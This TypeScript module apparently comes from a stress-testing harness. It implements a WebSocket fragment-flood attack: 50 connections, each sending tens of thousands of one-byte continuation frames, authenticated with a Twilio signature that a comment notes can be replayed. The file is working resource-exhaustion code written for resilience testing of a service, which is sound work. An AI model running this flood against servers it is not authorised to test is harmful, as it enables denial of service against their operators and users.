import { randomBytes } from "node:crypto"
import { WebSocket } from "ws"
import { type Attack, pause, repeatedly, sign } from "./Attack.ts"

/** A masked frame of one byte that goes on; RFC 6455, section 5.2. */
const fragment = (isFirst: boolean) => Buffer.from([isFirst ? 0x01 : 0x00, 0x81, 0, 0, 0, 0, 0x61])

/** Thousands of frames of a byte in one write: what holds them costs many times what was sent. */
const rest = Buffer.concat(Array.from({ length: 8000 }, () => fragment(false)))

/** Twilio's own signature over the upgrade: one that was seen can be sent again. */
export const fragments: Attack = {
  name: "messages in tiny fragments",
  strength: "50 WebSockets, 60,000 fragments each",
  run: async (siege) => {
    const url = `${siege.url.replace("http", "ws")}/ws`
    let opened = 0
    await repeatedly(siege, 50, async () => {
      const socket = new WebSocket(url, { headers: { "x-twilio-signature": sign(siege.account.authToken, url), "x-id": randomBytes(4).toString("hex") } })
      socket.on("error", () => {})
      const isOpen = await new Promise<boolean>((resolve) => {
        socket.once("open", () => resolve(true))
        socket.once("close", () => resolve(false))
      })
      if (!isOpen) return pause(20)
      opened++
      const raw = (socket as unknown as { readonly _socket: import("node:net").Socket })._socket
      raw.write(fragment(true))
      for (let round = 0; round < 7 && !raw.destroyed; round++) {
        if (!raw.write(rest)) await new Promise((resolve) => raw.once("drain", resolve).once("close", resolve))
      }
      await pause(Math.min(500, siege.left()))
      socket.terminate()
    })
    return `${opened} WebSockets`
  }
}
